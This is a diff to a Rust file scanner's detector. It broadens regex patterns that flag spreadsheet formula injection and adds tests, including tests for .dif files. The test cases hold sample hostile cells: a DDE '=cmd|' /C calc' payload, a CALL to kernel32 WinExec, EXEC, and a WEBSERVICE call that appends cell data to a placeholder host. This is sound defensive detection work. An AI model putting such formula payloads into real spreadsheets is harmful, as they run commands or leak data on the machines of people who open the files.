@@ -15,7 +15,7 @@ patterns! {
     // A picture whose address is put together of what the table holds.
     IMAGE_CELL = r#"(?im)(?:^|[,;\t"|>])[\s"']{0,4}(?:[=@][^\r\n]{0,200}?|[+-][0-9+*/.() -]{0,40})\bimage\(\s*(?:["']{1,2}https?:[^"'\r\n]{0,300}["']{1,2}\s*&|concat|textjoin)"#;
     // Functions that call a library or run a program, and such as fetch. After a sign that prose has as well, only numbers come before.
-    CALL_CELL = r#"(?im)(?:^|[,;\t"|])[\s"']{0,4}(?:[=@][^\r\n,;\t]{0,200}?|[+-][0-9+*/.() -]{0,40})\b(?:call|register(?:\.id)?|exec)\(["']"#;
+    CALL_CELL = r#"(?im)(?:^|[,;\t"|])[\s"']{0,4}(?:[=@][^\r\n,;\t]{0,200}?|[=@][^\r\n\t]{0,100}?[a-z]\([^\r\n\t]{0,100}?[,;(]\s{0,9}|[+-][0-9+*/.() -]{0,40})\b(?:call|register(?:\.id)?|exec)\(["']"#;
     FETCH_CELL = r#"(?im)(?:^|[,;\t"|])[\s"']{0,4}(?:[=@][^\r\n]{0,200}?|[+-][0-9+*/.() -]{0,40})\b(?:webservice|rtd|importdata|importxml|importhtml|importfeed|importrange)\(["'a-z]"#;
     // The same in a cell of a page, which spreadsheets open as a table.
     PAGE_CELL = r#"(?i)>\s{0,20}[=@][^<\r\n]{0,200}?\b(?:call|register(?:\.id)?|exec|webservice|rtd)\((?:["'a-z]|&quot;)"#;
@@ -63,7 +63,8 @@ pub(super) fn look(part: &Part, text: &str, findings: &mut Findings) {
 #[cfg(test)]
 mod tests {
     use super::super::Documents;
-    use crate::detectors::test_part::check;
+    use crate::detectors::test_part::{check, check_part, part};
+    use lazaret_model::{Class, Kind};
 
     #[test]
     fn cells_that_run_commands_are_found() {
@@ -94,6 +95,7 @@ mod tests {
             ("a\n=CALL(\"kernel32\",\"WinExec\",\"JFJ\",\"calc\",1)\n", &[CALLS][..]),
             ("a;\"@REGISTER(\"\"a\"\")\"\n", &[CALLS]),
             ("a\n+1+EXEC(\"calc\")\n", &[CALLS]),
+            ("a,\"=IF(1,EXEC(\"\"calc\"\"),0)\"\n", &[CALLS]),
             ("a,\"=1+WEBSERVICE(\"\"https://host.invalid/?\"\"&A1)\"\n", &[FETCHES]),
             ("=IMPORTXML(A1,\"//a\")\n", &[FETCHES]),
             ("=RTD(\"a.b\",\"host.invalid\",\"c\")\n", &[FETCHES]),
@@ -105,6 +107,23 @@ mod tests {
             ("=HYPERLINK(\"file:///C:/Windows/System32/calc.exe\")\n", &[FETCHES]),
         ] {
             check(&Documents, "csv", text, expected);
+        }
+    }
+
+    #[test]
+    fn cells_of_data_interchange_files_are_looked_at() {
+        let mut table = part("text");
+        (table.name, table.kind) = ("prices.dif".into(), Kind::new("text", Class::Text, "text/plain"));
+        let with = |cell: &str| {
+            format!("TABLE\r\n0,1\r\n\"EXCEL\"\r\nDATA\r\n0,0\r\n\"\"\r\n-1,0\r\nBOT\r\n1,0\r\n{cell}\r\n")
+        };
+        for (cell, expected) in [
+            ("\"=cmd|' /C calc'!A0\"", &["document.dde-cell high"][..]),
+            ("\"=EXEC(\"\"calc\"\")\"", &["document.active-cell high"]),
+            ("\"call (\"\"Ann\"\")\"", &[]),
+            ("\"=SUM(A1:A2)\"", &[]),
+        ] {
+            check_part(&Documents, &table, with(cell).as_bytes(), expected);
         }
     }
 
